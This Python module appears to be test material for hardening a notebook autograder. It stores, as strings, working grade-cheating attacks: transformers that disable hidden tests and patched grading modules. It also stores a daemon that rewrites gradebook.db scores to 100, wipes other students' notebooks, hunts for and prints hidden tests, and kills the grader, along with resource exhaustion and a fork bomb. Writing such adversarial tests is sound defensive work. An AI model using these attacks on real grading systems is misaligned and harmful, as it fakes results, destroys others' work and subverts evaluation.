"""Attacks on the grading itself, as a determined student would write them (make_corpus.py).

Each attack's expected score is what its *honest* work earns (the parts it really solved);
``python -m maillab grade`` must give exactly that. Every attack here is data (source text
that make_corpus.py puts into a notebook), never run by importing this module.

The attacks that could hurt the machine they run on (a fork bomb, filling the disk) go off
only under a throwaway user id (>= 1,000,000), as in the grader's sandboxes, so that grading
this corpus any other way does no harm. The others are real everywhere: never autograde this
corpus with a plain `nbgrader autograde` on a machine you care about (ESCAPE kills the grading
process and looks for gradebook.db in every folder above its working folder).
"""

# A blank lab plus input and AST transformers: every later cell, hidden tests included, becomes
# a no-op, and a test that raises nothing passes (in the notebook's own kernel).
TRANSFORMER = r'''
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\n"])

import ast

class Nothing(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[ast.Pass()], type_ignores=[])

ip.ast_transformers.append(Nothing())
'''

ANYTHING = r'''
class _Anything:
    """Says yes to everything a test could ask."""
    def __getattr__(self, name): return _Anything()
    def __call__(self, *a, **k): return _Anything()
    def __eq__(self, other): return True
    def __len__(self): return 1
    def __iter__(self): return iter([_Anything()])
    def __getitem__(self, i): return _Anything()
    def __enter__(self): return self
    def __exit__(self, *a): return True
    def __contains__(self, x): return True
    def __bool__(self): return True
'''

# The hidden tests load a "fresh" maillab.grading with importlib: hand them the patched one.
IMPORTLIB = ANYTHING + r'''
import importlib.machinery, importlib.util
import maillab.grading as _mg

class _Loader:
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.__dict__.update(vars(_mg))

importlib.util.spec_from_file_location = \
    lambda name, path, *a, **k: importlib.machinery.ModuleSpec(name, _Loader())
for _name in ("verify", "watch", "maildir", "plain_auth_user"):
    setattr(_mg, _name, lambda *a, **k: _Anything())
'''

# sys.modules replacement: every later "maillab.grading" is a module that says yes.
MODULES = ANYTHING + r'''
import sys, types, maillab

_fake = types.ModuleType("maillab.grading")
_fake.__getattr__ = lambda name: (lambda *a, **k: _Anything())
sys.modules["maillab.grading"] = _fake
maillab.grading = _fake
grading = _fake
'''

# Reaching outside: a background process that writes 100 points into gradebook.db wherever it
# finds one above its working folder (where nbgrader keeps it), other students' notebooks
# wiped, a file left in /tmp, the hidden tests looked for on disk (and printed), and the
# grader (the kernel's parent) killed.
ESCAPE = r'''
import os, signal, subprocess, sys, time
from pathlib import Path

_daemon = """
import sqlite3, time
from pathlib import Path
end = time.time() + 120
while time.time() < end:
    for folder in [Path.cwd(), *Path.cwd().parents]:
        if (folder / "gradebook.db").exists():
            try:
                with sqlite3.connect(folder / "gradebook.db", timeout=1) as con:
                    con.execute("update grade set auto_score = 100")
            except Exception:
                pass
    time.sleep(0.5)
"""
subprocess.Popen([sys.executable, "-c", _daemon], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

for _where in [Path.cwd(), *Path.cwd().parents]:
    for _nb in [*_where.glob("submitted/*/*/*.ipynb"), *_where.glob("autograded/*/*/*.ipynb")]:
        try:
            _nb.write_text("{}")  # another student's notebook, wiped
        except OSError:
            pass
try:
    Path("/tmp/maillab-corpus-was-here").write_text("escaped")
except OSError:
    pass

_found, _end = [], time.time() + 3
for _root, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev")]
    for _name in _files:
        if _name.endswith((".ipynb", ".db")):  # a master notebook, or the gradebook
            _path = os.path.join(_root, _name)
            try:
                if "grading.fresh(lab)" in open(_path, errors="replace").read(200000):
                    _found.append(_path)
            except OSError:
                pass
    if time.time() > _end:
        break
print("hidden tests found:", _found)
for _path in _found[:5]:
    print(open(_path, errors="replace").read()[:3000])

try:
    os.kill(os.getppid(), signal.SIGKILL)  # the grader: a plain nbgrader autograde ends here
except OSError:
    pass
'''

# Resources: handlers that ignore every interrupt and an atexit handler that never returns, the
# disk filled up (in the sandbox only) and a flood of output.
RESOURCES = r'''
import atexit, os, signal, time

# (no loop variable `_`: the labs' cells call the translation function _)
for _sig in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP):
    signal.signal(_sig, signal.SIG_IGN)
atexit.register(time.sleep, 3600)

if os.getuid() >= 1000000:  # only in a grader's sandbox (a throwaway user id)
    for _name in ("big-1", "/tmp/big-2"):
        try:
            with open(_name, "wb") as _f:
                for _mb in range(1024):
                    _f.write(b"x" * 2**20)
        except OSError:  # the disk is full: as intended
            pass
for _flood in range(50):
    print("flood " * 20000)
'''


def fork_bomb(fn: str) -> str:
    """``fn`` forks until nothing can fork any more (in a sandbox only)."""
    return f'''
import os

def {fn}(*args, **kwargs):
    if os.getuid() < 1000000:  # only in a grader's sandbox (a throwaway user id)
        raise RuntimeError("this fork bomb goes off only in a sandbox")
    while True:
        try:
            os.fork()
        except OSError:
            pass
'''


def liar(fn: str, constants: list[str]) -> str:
    """``fn``'s results and the concept answers wrapped in subclasses whose ``==`` always says
    yes (the right values, and an int that equals every int): true in any == check."""
    wrap = "\n".join(f"{c} = _liar({c})" for c in constants)
    return f'''
def _liar(value):
    class Yes(type(value)):
        def __eq__(self, other):
            return True
        def __ne__(self, other):
            return False
        __hash__ = type(value).__hash__
    return Yes(value)

_real_{fn} = {fn}

def {fn}(*args, **kwargs):
    return _liar(_real_{fn}(*args, **kwargs))

{wrap}
'''


KILL_CELL = r'''
import os
os._exit(1)  # the kernel ends here, after the functions above were defined
'''

# Which parts each attack aims at, per lab: a function whose result is a value (name, test), an
# evidence part (left unsolved where an attack should have faked it), the first solution cell
# (the others call what it defines), a leaf (a function no other part calls) and a concept
# cell (solution id, constants, test).
TARGETS = {
    "smtp": {"pure": ("dot_stuff", "dot_stuff_tests"),
             "evidence": ("send_mail", "send_mail_tests"),
             "first": "read_reply", "leaf": ("ehlo", "ehlo_extensions", "ehlo_tests"),
             "concept": ("ports", ["SMTP_PORT", "SUBMISSION_PORT", "SMTPS_PORT",
                                   "SENDING_PROTOCOL"], "ports_tests")},
    # the pop3 and imap labs' given cell that fills Bob's mailbox for the session typed by hand
    # calls grading: with grading replaced (modules), the honest session finds no messages
    "pop3": {"pure": ("mailbox_size", "stat_tests"),
             "needs_grading": ["box_retr_tests", "box_dele_tests", "box_kept_tests"],
             "evidence": ("download", "download_tests"),
             "first": "login", "leaf": ("list", "list_messages", "list_tests"),
             "concept": ("concepts", ["POP3_PORT", "POP3S_PORT", "DELETES_IN", "KEEPS_MAIL"],
                         "concepts_tests")},
    "imap": {"pure": ("folder_status", "status_tests"),
             "needs_grading": ["folder_move_tests", "folder_flag_tests", "folder_search_tests"],
             "evidence": ("flag", "flag_tests"),
             "first": "command", "leaf": ("status", "folder_status", "status_tests"),
             "concept": ("concepts", ["IMAP_PORT", "IMAPS_PORT", "NEEDS_MORE_DISK",
                                      "NEVER_CHANGES"], "concepts_tests")},
    "journey": {"pure": ("mx_lookup", "mx_tests"),
                "evidence": ("submit", "submit_tests"),
                "first": "mx", "leaf": ("hops", "received_hops", "hops_tests"),
                "concept": ("ports", ["SUBMIT_PORT", "RELAY_PORT", "POP3_PORT", "IMAP_PORT",
                                      "DNS_RECORD"], "ports_tests")},
    "web-and-security": {"pure": ("form_fields", "form_fields_tests"),
                         "evidence": ("login", "login_tests"),
                         "first": "http_get",
                         "leaf": ("sniff", "find_passwords", "sniff_tests"),
                         "concept": ("ports", ["PORTS"], "ports_tests")},
}


def attack_cases(lab: str) -> dict:
    """case -> how make_corpus.py builds it and which tests must fail.

    Keys: ``unsolved`` (solution ids left as released), ``insert_after_setup`` (a new code
    cell after the setup cell), ``append`` ({solution id: code added at the end of it}),
    ``extra`` (a new code cell before the stop cell), ``fail`` (failing test ids).
    """
    t = TARGETS[lab]
    evidence, evidence_test = t["evidence"]
    pure_fn, pure_test = t["pure"]
    concept_cell, constants, concept_test = t["concept"]
    leaf_cell, leaf_fn, leaf_test = t["leaf"]
    return {
        "transformer": {"unsolved": "all", "insert_after_setup": TRANSFORMER, "fail": "all"},
        "importlib": {"unsolved": [evidence], "insert_after_setup": IMPORTLIB,
                      "fail": [evidence_test]},
        "modules": {"unsolved": [evidence], "insert_after_setup": MODULES,
                    "fail": [evidence_test] + t.get("needs_grading", [])},
        "eq": {"extra": liar(pure_fn, constants), "fail": [pure_test, concept_test]},
        "killcell": {"append": {t["first"]: KILL_CELL}, "fail": []},
        "escape": {"unsolved": [evidence], "insert_after_setup": ESCAPE,
                   "fail": [evidence_test]},
        "resources": {"insert_after_setup": RESOURCES, "append": {leaf_cell: fork_bomb(leaf_fn)},
                      "fail": [leaf_test]},
    }
